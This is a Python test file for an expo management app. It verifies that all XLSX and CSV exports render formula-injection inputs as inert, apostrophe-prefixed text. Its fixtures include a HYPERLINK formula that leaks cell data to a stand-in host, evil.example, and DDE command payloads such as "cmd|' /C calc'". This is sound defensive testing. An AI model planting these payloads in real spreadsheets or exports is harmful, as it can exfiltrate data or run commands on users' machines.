"""Every file Expo Desk exports, opened again: no formula cell in any XLSX, no CSV field that a
spreadsheet program would run, and phone numbers that stay text."""

from __future__ import annotations

import csv
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import select, update

from expo.badges.export import CodeExportRequest, export_codes
from expo.exports.safe_cells import FORMULA_STARTS, csv_field, unescape_formula
from expo.models import Booth, Factory, Product, Visitor
from expo.services.booth_exports import export_exhibitors_xlsx
from expo.services.catalogue_files import export_catalogue
from expo.services.hall_plans import add_booth, create_hall
from expo.services.lead_export import export_inquiries
from expo.services.leads import InquiryDraft, booth_station, record_inquiry
from expo.services.plan_files import export_plan, import_plan
from expo.services.visitor_export import export_visitors
from tests.actors import OFFICE
from tests.fair import build_small_fair

LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"Li")'
HOSTILE = (LEAK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")


def _xlsx_cells(path: Path) -> list[tuple[str, object, str]]:
    workbook = load_workbook(path)
    return [
        (f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def _assert_no_formula_cell(path: Path, expected: set[str]) -> None:
    cells = _xlsx_cells(path)
    formulas = [(where, value) for where, value, kind in cells if kind == "f"]
    assert formulas == [], f"{path.name} has live formulas"
    # The hostile texts are there, as text: the test would pass vacuously without them.
    texts = {value for _, value, kind in cells if kind == "s"}
    assert expected <= texts, expected - texts


def _csv_fields(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [field for row in csv.reader(handle) for field in row]


def _assert_no_formula_field(path: Path) -> list[str]:
    fields = _csv_fields(path)
    assert [f for f in fields if f.startswith(FORMULA_STARTS)] == []
    return fields


def test_the_escape_rules() -> None:
    assert csv_field(LEAK) == "'" + LEAK
    assert csv_field("+8613800138000") == "'+8613800138000"
    assert csv_field("张伟") == "张伟" and csv_field(-3) == -3 and csv_field(None) is None
    for text in HOSTILE:
        assert unescape_formula(csv_field(text)) == text
    assert unescape_formula("'quoted") == "'quoted"  # an apostrophe of the user's own stays


def test_every_export_writes_formulas_as_text(empty_db, tmp_path: Path) -> None:
    fair = build_small_fair(empty_db)
    with empty_db.write(OFFICE) as session:
        for visitor_id, name in ((fair.consenting, LEAK), (fair.private, "@SUM(A1:A9)")):
            session.execute(
                update(Visitor).where(Visitor.id == visitor_id).values(name=name, company="-2+3")
            )
        product = session.scalar(select(Product).where(Product.sku == "CY-001"))
        assert product is not None
        product.name = LEAK
        product.photo_path = "+1+cmd|' /C calc'!A0"
        session.execute(update(Factory).where(Factory.id == fair.factory_a).values(name_zh=LEAK))
        station = booth_station(session, fair.station_a, fair.factory_a)
        record_inquiry(
            session,
            fair.factory_a,
            fair.code_consenting,
            InquiryDraft(skus=["CY-001"], notes="=1+1", customisation="@cmd"),
            station,
        )
        hall = create_hall(session, "A", "A馆", 60, 40)
        booth = add_booth(session, hall.id, 0, 0, 3, 3, code="A-01")
        placed = session.get(Booth, booth.id)
        assert placed is not None
        placed.factory_id = fair.factory_a
        placed.notes = "=cmd|' /C calc'!A0"

    visitors = tmp_path / "visitors.xlsx"
    catalogue = tmp_path / "catalogue.xlsx"
    inquiries = tmp_path / "inquiries.xlsx"
    exhibitors = tmp_path / "exhibitors.xlsx"
    plan = tmp_path / "plan.csv"
    with empty_db.session() as session:
        export_visitors(session, visitors)
        export_catalogue(session, fair.factory_a, catalogue)
        export_inquiries(session, fair.factory_a, inquiries)
        export_exhibitors_xlsx(session, exhibitors)
        export_plan(session, plan)
    codes = export_codes(empty_db, CodeExportRequest(folder=tmp_path / "codes", png=False))

    _assert_no_formula_cell(visitors, {LEAK, "@SUM(A1:A9)", "-2+3", "+8613800138000"})
    _assert_no_formula_cell(catalogue, {LEAK, "+1+cmd|' /C calc'!A0"})
    _assert_no_formula_cell(inquiries, {LEAK, "=1+1", "@cmd", "+8613800138000"})
    _assert_no_formula_cell(exhibitors, {LEAK})
    # Excel keeps a quote-prefixed cell text even when someone edits it.
    assert any(
        cell.quotePrefix for row in load_workbook(visitors).active.iter_rows() for cell in row
    )

    code_fields = _assert_no_formula_field(codes.csv_path)
    assert "'" + LEAK in code_fields and "'@SUM(A1:A9)" in code_fields
    # Phones stay text in Excel (not 8.6E+12).
    assert "'+8613800138000" in code_fields
    plan_fields = _assert_no_formula_field(plan)
    assert "'=cmd|' /C calc'!A0" in plan_fields

    # Our own plan export imports as it was written: the apostrophe comes off again.
    with empty_db.write(OFFICE) as session:
        import_plan(session, plan)
    with empty_db.session() as session:
        booth_notes = session.scalars(select(Booth.notes)).all()
    assert booth_notes == ["=cmd|' /C calc'!A0"]
